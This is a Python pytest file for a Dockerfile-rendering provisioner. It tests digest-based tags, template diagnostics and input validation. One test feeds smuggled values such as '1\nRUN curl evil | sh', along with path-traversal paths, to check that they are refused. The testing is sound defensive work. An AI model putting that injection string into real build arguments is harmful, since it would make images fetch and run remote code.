"""What services are built from, case by case."""

from __future__ import annotations

import re
import shutil
from dataclasses import replace
from pathlib import Path

import pytest

from provisioner.errors import Diagnostic, InvalidInput
from provisioner.model.image import BASE_PLACEHOLDER, BuildInputs, ContextFile
from provisioner.model.spec import FleetSpec, FromImage, FromTemplate, ImageBase, ManagedFile, Service, SuiteBase
from provisioner.render.dockerfile import balancer_inputs, build_inputs, inputs_digest
from tests.render.declared import CASES, fleet, in_memory, inputs, shipped

BUILDS = sorted((CASES / "build").iterdir())
EXAMPLES = Path(__file__).parents[2] / "examples"


def built(file: Path) -> BuildInputs:
    """Return the inputs of a service that has some."""
    found = inputs(file)
    assert found is not None
    return found


def faults(template: str, *, files: dict[str, str] | None = None, **source: object) -> tuple[Diagnostic, ...]:
    """Return what is wrong with a service that is built from a template."""
    service = Service("web", "web", FromTemplate("mine", **source))  # type: ignore[arg-type]
    service = replace(service, files=tuple(ManagedFile(path, name) for path, name in (files or {}).items()))
    with pytest.raises(InvalidInput) as caught:
        build_inputs(FleetSpec("shop", {"web": service}), service, (), in_memory({"mine": template, "f": "x"}))
    return caught.value.diagnostics


@pytest.mark.parametrize("case", BUILDS, ids=lambda case: case.name)
def test_the_files_are_the_case_s_own(case: Path) -> None:
    """A service always gives the same Dockerfile and the same files."""
    found = built(case / "fleet.yaml")
    assert found.dockerfile == (case / "expected/Dockerfile").read_text()
    expected = {f"/{path.relative_to(case / 'expected/files')}": path.read_text() for path in files_below(case)}
    assert {file.path: file.text for file in found.files} == expected


def files_below(case: Path) -> list[Path]:
    """Return the files that a case expects in the image."""
    return [path for path in (case / "expected/files").rglob("*") if path.is_file()]


def test_an_image_as_it_stands_is_not_built() -> None:
    """A service of an image without managed files needs no build."""
    service = Service("web", "web", FromImage("nginx:1.27"))
    assert build_inputs(FleetSpec("shop", {"web": service}), service, (), shipped()) is None


def test_managed_files_go_on_top_of_the_image_as_named() -> None:
    """The image of a service becomes the base of a build of ours."""
    found = built(CASES / "build/image-with-files/fleet.yaml")
    assert found.base == ImageBase("nginx:1.27")
    assert found.dockerfile.startswith(f"FROM {BASE_PLACEHOLDER}\n")


def test_our_templates_know_their_base() -> None:
    """Without a `base:` the template's own is taken."""
    found = built(EXAMPLES / "hello/fleet.yaml")
    assert found.base == SuiteBase("bookworm", ("python3", "python3-venv"))


@pytest.mark.parametrize("example", ["hello", "static-site"])
def test_the_examples_render_offline(example: str) -> None:
    """Every example gives a service and a balancer to build, under tags of its fleet."""
    file = EXAMPLES / example / "fleet.yaml"
    balancer = balancer_inputs(fleet(file), (), shipped())
    assert balancer is not None
    assert balancer.tag.startswith(f"provisioner/{example}/load-balancer:")
    assert re.fullmatch(rf"provisioner/{example}/(web|site):[0-9a-f]{{16}}", built(file).tag)


def test_the_tag_is_the_digest_of_what_the_build_reads(tmp_path: Path) -> None:
    """Content, mode, base, platform and managed files change it; where the context lies does not."""
    case = CASES / "build/image-with-files"
    found = built(case / "fleet.yaml")
    moved = built(Path(shutil.copytree(case, tmp_path / "elsewhere")) / "fleet.yaml")
    entry = ContextFile("a", "/x/a", 0o644, 1, "00")
    changes = [
        replace(found, dockerfile="FROM scratch\n"),
        replace(found, base=ImageBase("nginx:1.28")),
        replace(found, platform="linux/arm64"),
        replace(found, context=(entry,)),
        replace(found, context=(replace(entry, mode=0o755),)),
        replace(found, context=(replace(entry, digest="01"),)),
        replace(found, context=(replace(entry, digest="", link="b"),)),
        replace(found, files=found.files[1:]),
        replace(found, files=(replace(found.files[0], mode=0o600), *found.files[1:])),
    ]
    assert moved.tag == found.tag
    assert len({inputs_digest(each) for each in (found, *changes)}) == len(changes) + 1
    assert inputs_digest(replace(found, context=(replace(entry, source="/y/a"),))) == inputs_digest(changes[3])


def test_the_order_of_the_context_does_not_count() -> None:
    """Rendering is deterministic in whatever order a folder was listed."""
    first, second = (ContextFile(name, f"/{name}", 0o644, 1, name) for name in "ab")
    found = BuildInputs("web", "", "FROM scratch\n", None, (first, second))
    assert inputs_digest(found) == inputs_digest(replace(found, context=(second, first)))


def test_a_template_nobody_has_is_named_with_ours() -> None:
    """The message lists what there is."""
    service = Service("web", "web", FromTemplate("python-wbe"))
    with pytest.raises(InvalidInput) as caught:
        build_inputs(FleetSpec("shop", {"web": service}), service, (), shipped())
    (fault,) = caught.value.diagnostics
    assert "python-wbe" in fault.message
    assert fault.suggestion == "ours are haproxy, python-web, static-web"


def test_a_base_that_was_not_named_is_asked_for() -> None:
    """A template of the user has no default base."""
    (fault,) = faults("FROM {{ base }}\n")
    assert (fault.message, fault.line) == ("`base` is not defined", 1)
    assert fault.suggestion == "name one in the service's `build`"


def test_an_argument_nobody_reads_is_refused() -> None:
    """A mistyped argument is never silently ignored."""
    (fault,) = faults("FROM scratch\nARG VERSION=1\n", args={"VERSOIN": "2"})
    assert "VERSOIN" in fault.message


@pytest.mark.parametrize("value", ["1\nRUN curl evil | sh", "1\rRUN x", "1\x00", "x\x0bRUN y"])
def test_an_argument_cannot_add_an_instruction(value: str) -> None:
    """A value with a new line is refused: a Dockerfile has no way to write it."""
    for template in ("FROM scratch\nENV X={{ args.v }}\n", "FROM scratch\nENV X={{ args.v | dockerfile }}\n"):
        (fault,) = faults(template, args={"v": value})
        assert fault.line == 2
    service = Service("web", "web", FromTemplate("mine", args={"v": value}))
    with pytest.raises(InvalidInput):
        build_inputs(FleetSpec("s", {"web": service}), service, (), in_memory({"mine": "FROM scratch\nARG v\n"}))


@pytest.mark.parametrize("path", ["/a/../b", "a", "/a*", "/a[1]", "/a$X", "/a\nb", "/", "/a/", "//a"])
def test_a_managed_file_has_a_plain_path(path: str) -> None:
    """A path that COPY would expand, or that leads elsewhere, is refused."""
    (fault,) = faults("FROM scratch\n", files={path: "f"})
    assert "managed file's path" in fault.message
